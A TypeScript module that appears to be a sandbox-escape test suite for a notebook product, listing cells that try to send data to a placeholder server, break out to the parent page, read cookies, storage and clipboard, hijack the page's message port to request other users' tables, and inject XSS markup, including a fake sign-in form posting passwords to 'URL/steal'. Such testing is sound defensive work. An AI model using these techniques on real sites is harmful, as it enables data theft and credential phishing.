/**
 * Cells of a stranger that look for a way out when they are run; URL stands for a server that counts its visitors and APP for the
 * product. Each shows "got out: " and what had worked.
 */
export const ESCAPES: Readonly<Record<string, string>> = {
  network: attempts({
    fetch: `await fetch("URL/fetch", { mode: "no-cors" }); return true`,
    "fetch of the app": `await fetch("APP/api/trpc/notebooks.list", { credentials: "include" }); return true`,
    XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("POST", "URL/xhr", false); x.send("prices"); return true`,
    WebSocket: `const s = new WebSocket("URL/socket".replace("http", "ws")); return new Promise((r) => { s.onopen = () => r(true); s.onerror = () => r(false) })`,
    EventSource: `const s = new EventSource("URL/events"); return new Promise((r) => { s.onopen = () => r(true); s.onerror = () => r(false) })`,
    image: `const i = new Image(); i.src = "URL/image"; await i.decode(); return true`,
    "image by element": `document.createElement("img").src = "URL/element"; return true`,
    script: `importScripts("URL/script.js"); return true`,
    import: `await (0, eval)('import("URL/import.js")'); return true`,
    worker: `const w = new Worker("URL/worker.js"); return new Promise((r) => { w.onmessage = () => r(true); w.onerror = () => r(false) })`,
    font: `await new FontFace("x", "url(URL/font)").load(); return true`,
    beacon: `return navigator.sendBeacon("URL/beacon", "prices")`,
    connection: `new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:PORT" }] }).createDataChannel("x"); return true`,
    transport: `await new WebTransport("URL/transport".replace("http:", "https:")).ready; return true`,
    name: `await fetch("http://prices.LEAK/"); return true`,
    later: `fetchLater("URL/later", { activateAfter: 0 }); return true`,
    "socket of streams": `await new WebSocketStream("URL/stream".replace("http", "ws")).opened; return true`,
    "import of JSON": `await (0, eval)('import("URL/data.json", { with: { type: "json" } })'); return true`,
    WebAssembly: `await WebAssembly.compileStreaming(fetch("URL/module.wasm")); return true`,
    "worker of a worker": `const w = new Worker(globalThis["U" + "RL"]["createObjectU" + "RL"](new Blob(['importScripts("URL/inner.js"); postMessage(1)']))); return new Promise((r) => { w.onmessage = () => r(true); w.onerror = () => r(false) })`,
    "shared worker": `new SharedWorker("URL/shared.js"); return true`,
    database: "await sql`SELECT * FROM read_csv('URL/duckdb.csv')`; return true",
    extension: "await sql`INSTALL httpfs FROM 'URL/extension'`; return true",
    written: "await sql`COPY (SELECT 1) TO 'URL/copy.csv'`; await sql`FROM 'URL/copy.csv'`; return true",
  }),
  page: attempts({
    location: `globalThis.location.href = "URL/location"; return !location.href.startsWith("blob:")`,
    "location of the page": `globalThis.top.location.href = "URL/top"; return true`,
    window: `return Boolean(globalThis.open("URL/window"))`,
    form: `const f = document.createElement("form"); f.action = "URL/form"; f.method = "post"; f.submit(); return true`,
    document: `document.title = "moved"; return true`,
    parent: `parent.postMessage({ type: "sandbox-loaded" }, "*"); return true`,
    script: `parent.eval("window.hacked = 1"); return true`,
    storage: `return localStorage.getItem("viewer") ?? sessionStorage.getItem("viewer")`,
    files: `await (await navigator.storage.getDirectory()).getFileHandle("viewer"); return true`,
    cookies: `return (await cookieStore.getAll()).length`,
    database: `const q = indexedDB.open("viewer"); return new Promise((r) => { q.onsuccess = () => r(true); q.onerror = () => r(false) })`,
    channel: `new BroadcastChannel("lookback").postMessage("x"); return true`,
    caches: `return (await caches.keys()) !== undefined`,
    "service worker": `await navigator.serviceWorker.register("APP/sw.js"); return true`,
    "window of a blob": `return Boolean(globalThis.open(globalThis["U" + "RL"]["createObjectU" + "RL"](new Blob(["<script>1</script>"], { type: "text/html" }))))`,
    "location of data": `globalThis.location.assign("data:text/html,moved"); return !location.href.startsWith("blob:")`,
    "words to every window": `let said = 0; for (const each of [globalThis.parent, globalThis.top, globalThis.opener]) if (each) { each.postMessage({ v: 1, type: "navigate", url: "URL/said" }, "*"); said++; } return said`,
    clipboard: `return await navigator.clipboard.readText()`,
    notification: `return (await Notification.requestPermission()) === "granted"`,
  }),
  data: attempts(
    {
      "what the link gives": `return (await bars("SP500")).close.length > 0`,
      "what the link gives, by SQL":
        "return [...(await sql`SELECT * FROM bars WHERE symbol = 'SP500' LIMIT 3`)].length === 3",
      "other prices": `return (await bars("AAPL")).close.length`,
      "other prices by SQL": "return [...(await sql`SELECT * FROM bars WHERE symbol = 'AAPL'`)].length > 0",
      "list of prices": `return (await datasets()).some(({ symbol }) => symbol !== "SP500")`,
      runs: "await sql`SELECT * FROM saved_runs`; return true",
      ledger: "await sql`SELECT * FROM saved_ledger`; return true",
      study: "return await optimize({ where: 'server' })",
    },
    30_000,
  ),
  // The wire to the page, taken from the code that holds it: what the page and its server answer to whoever has it.
  wire: `const own = MessagePort.prototype.postMessage;
const taken: MessagePort[] = [];
MessagePort.prototype.postMessage = function (this: MessagePort, message: any, ...rest: any[]) {
  if (message?.v === 1) taken.push(this);
  return own.call(this, message, ...rest);
} as any;
for (let turns = 0; turns < 200 && taken.length === 0; turns++) {
  progress(turns / 200);
  await new Promise((settle) => setTimeout(settle, 20));
}
MessagePort.prototype.postMessage = own;
const [wire] = taken;
if (!wire) throw new Error("no wire");
const answers = new Map<string, any>();
wire.addEventListener("message", ({ data }: any) => answers.set(data.requestId, data));
const ask = (requestId: string, message: object) => wire.postMessage({ v: 1, requestId, ...message });
ask("prices", { type: "want-bars", request: { symbol: "AAPL", timeframe: "1d" } });
ask("runs", { type: "want-table", name: "saved_runs" });
ask("users", { type: "want-table", name: "users" });
ask("datasets", { type: "want-datasets" });
ask("study", { type: "want-study-result", id: "00000000-0000-4000-8000-000000000000" });
ask("own", { type: "want-bars", request: { symbol: "SP500", timeframe: "1d" } });
const state = { cellId: "prose", version: 9, status: "fresh", defines: [], reads: [] };
const markup = '<form action="URL/form"><input type="password"></form><img src="URL/sent" onerror="window.hacked=1">';
wire.postMessage({ v: 1, type: "cell", state: { ...state, outputs: [{ type: "markdown", source: markup }] } });
wire.postMessage({ v: 1, type: "cell", state: { ...state, outputs: [{ type: "html", html: markup }] } });
wire.postMessage({ v: 1, type: "navigate", url: "URL/navigate" });
wire.postMessage({ v: 1, type: "fault", message: markup });
wire.postMessage({ __proto__: null, constructor: { prototype: { hacked: 1 } }, v: 1, type: "ready" });
wire.postMessage("eval:window.hacked=1");
const answered = ["prices", "runs", "datasets", "study", "own"];
while (answered.some((id) => !answers.has(id))) await new Promise((settle) => setTimeout(settle, 20));
const given = ["prices", "runs", "users", "study"].filter((id) => answers.has(id) && !answers.get(id).error);
const seen = (answers.get("datasets")?.datasets ?? []).map((dataset: any) => dataset.symbol);
"got out: [" + given + "] own: " + Boolean(answers.get("own").ipc) + ", listed: " + [...new Set(seen)]`,
};

/** A cell that tries them all at once, each for so long. */
function attempts(ways: Readonly<Record<string, string>>, limitMs = 600): string {
  const list = Object.entries(ways).map(([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`);
  return `await (async () => {
  const ways: any = { ${list.join(",\n")} };
  const found: string[] = [];
  await Promise.all(Object.entries(ways).map(async ([name, way]: any) => {
    const late = new Promise((settle) => setTimeout(settle, ${limitMs}, false));
    if (await Promise.race([way(), late]).catch(() => false)) found.push(name);
  }));
  return "got out: [" + found.toSorted().join() + "]";
})()`;
}

/** What a run shows where markup might be believed; `bad` is the list of payloads. */
export const MARKUP: Readonly<Record<string, string>> = {
  written: "md`${bad.join(' ')}`",
  table: `table(bad.map((each) => ({ [bad[0]]: each, [bad[3]]: each })))`,
  figure: `plot.figure([{ type: "scatter", x: [1, 2], y: [1, 2], name: bad[0], text: bad, hovertemplate: bad[8] }], {
  title: { text: bad.join("") }, images: [{ source: "URL/layout" }], mapbox: { style: "URL/map" },
  annotations: [{ text: bad[3], x: 1, y: 1, captureevents: true }],
})`,
  chart: `plot.overTime(Float64Array.of(1e12, 1.1e12), { [bad[0]]: [1, 2] }, { title: bad[2] })`,
  drawing:
    "svg`<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9' onload='window.hacked=1'>${bad}</svg>`",
  logs: `bad.forEach((each) => console.log(each)); 1`,
  lure: "md`<form action='URL/steal' method='post'><input type='password' name='p'></form><div style='position:fixed;inset:0;z-index:9999'>Your session has ended. Sign in again.</div><dialog open>Password?</dialog>`",
  error: `throw new Error(bad.join("\\n"))`,
};
